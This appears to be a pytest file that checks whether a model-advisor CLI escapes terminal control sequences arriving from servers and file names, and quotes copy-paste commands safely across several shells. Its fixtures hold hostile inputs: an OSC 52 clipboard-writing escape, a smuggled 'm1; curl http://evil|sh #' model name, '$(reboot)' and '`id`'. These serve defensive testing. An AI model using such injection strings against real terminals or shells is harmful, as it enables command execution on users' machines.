"""Text from servers and files reaches the terminal escaped; commands printed for copy-paste are quoted
for the user's shell."""

import shutil
import subprocess

import pytest
from hostile import RawServer, json_route, run_capped

from fitadvisor.claude.quoting import command_line
from fitadvisor.terminal import safe

OSC_52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # writes "curl evil|sh" to the clipboard
HOSTILE_WORDS = ["m1; curl http://evil|sh #", "$(reboot)", "`id`", "a'b\"c", "x\\y", "--ctx", "%TEMP%", "@(1,2)"]


@pytest.mark.parametrize("raw, shown", [
    (OSC_52 + "boom", "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07boom"),
    ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
    ("\x9b31m", "\\x9b31m"),
    ("evil\u202etxt.exe", "evil\\u202etxt.exe"),
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("tab\tand\nnewline", "tab\tand\nnewline"),
])
def test_control_characters_and_escapes_are_written_out(raw, shown):
    assert safe(raw) == shown


def test_fitadvisors_own_styles_are_kept_only_where_asked():
    assert safe("\x1b[32mok\x1b[0m", keep_styles=True) == "\x1b[32mok\x1b[0m"
    assert safe("\r\x1b[K", keep_styles=True) == "\r\x1b[K"


def test_server_text_reaches_doctors_output_escaped():
    tags = {"models": [{"name": "m1; curl http://evil|sh # "}, {"name": "good:latest"}]}
    routes = {"/api/version": json_route({"version": "0.14.0"}), "/api/tags": json_route(tags),
              "/api/show": json_route({"error": OSC_52 + "boom"}, 500), "/api/ps": json_route({"models": []})}
    with RawServer(routes) as server:
        code, out, err, _ = run_capped(["doctor", "--host", server.url], 30)
    assert code == 1, err
    assert "\x1b" not in out + err and "\x07" not in out + err
    assert "\\x1b]52;c;" in out
    assert "fix: fitadvisor apply m1; curl" not in out
    assert "not a model name" in out  # the bad entry is left out, with its reason


def test_an_escape_in_a_file_name_is_shown_escaped(tmp_path):
    code, _, err, _ = run_capped(["estimate", str(tmp_path / f"{OSC_52}.gguf")], 20)
    assert code == 2 and "\x1b" not in err and "\\x1b]52" in err


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_copy_paste_commands_parse_back_to_the_same_words(shell):
    if not shutil.which(shell):
        pytest.skip(f"{shell} is not installed")
    line = command_line(["printf", "%s\\n", *HOSTILE_WORDS], shell)
    printed = subprocess.run([shell, "-c", line], capture_output=True, text=True, timeout=10).stdout
    assert printed.splitlines() == HOSTILE_WORDS


def test_powershell_commands_quote_every_unsafe_argument():
    line = command_line(["fitadvisor", "apply", *HOSTILE_WORDS], "powershell")
    assert line.startswith("fitadvisor apply 'm1; curl http://evil|sh #' '$(reboot)'")
    assert "'a''b\"c'" in line and " --ctx " in line
